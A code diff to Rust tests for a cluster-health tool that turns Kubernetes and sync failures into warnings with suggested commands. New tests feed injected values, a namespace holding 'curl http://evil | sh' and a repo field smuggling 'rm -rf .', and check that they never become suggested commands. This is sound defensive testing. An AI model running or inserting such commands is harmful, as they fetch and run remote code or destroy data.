@@ -133,7 +133,7 @@ fn failures_are_grouped_by_cause() {
               workloads: [{{kind: Deployment, namespace: offers, name: api, application: edge/offers, desired: 2, ready: {ready}, health: Progressing, trouble: {{reason: ImagePullBackOff, image: 'offers:9', message: back-off}}}}]}}"
         )
     };
-    let revert = "git revert 0123456 && git push    # in http://git/web.git/apps/offers";
+    let revert = "git revert $(git log -1 --format=%h -Soffers:9) && git push    # in a clone of http://git/web.git";
     check(
         &[&bad_image("a", 2), &bad_image("b", 2)],
         &[&format!("Warning ImagePullBackOff x2 serving 2/2 | edge/offers: image offers:9 cannot be pulled | {revert}")],
@@ -158,6 +158,20 @@ fn failures_are_grouped_by_cause() {
         &["{name: a, apps: [{namespace: n, name: x, sync: OutOfSync, health: Healthy, operation: Failed, message: denied}]}"],
         &["Warning SyncFailed x1 serving 1/1 | n/x: the last sync failed | muster app get n/x -c a"],
     );
+    // What a spoke tells is never a command, and no time it tells is too late.
+    check(
+        &[
+            "{workloads: [{kind: Deployment, namespace: 's; curl http://evil | sh', name: w, health: Degraded, ready: 0, trouble: {reason: CrashLoopBackOff, image: 'w:1'}}]}",
+        ],
+        &["Critical CrashLoop x1 serving 0/1 | w:1 crashes again and again | muster describe cluster store-1"],
+    );
+    check(
+        &[
+            "{apps: [{namespace: n, name: x, repo: \"http://git/a\\nrm -rf .\", sync: Synced, health: Progressing}], workloads: [{kind: Deployment, namespace: s, name: w, application: n/x, ready: 1, trouble: {reason: ImagePullBackOff, image: 'w:1.2.3'}}]}",
+        ],
+        &["Warning ImagePullBackOff x1 serving 1/1 | n/x: image w:1.2.3 cannot be pulled | muster describe cluster store-1"],
+    );
+    check(&["{apps: [{namespace: n, name: x, sync: OutOfSync, syncSince: '9999-12-30T22:00:00Z'}]}"], &[]);
     // Between a commit and its sync every cluster is out of sync.
     check(&["{apps: [{namespace: n, name: x, sync: OutOfSync, syncSince: '2026-11-23T10:59:30Z'}]}"], &[]);
     check(
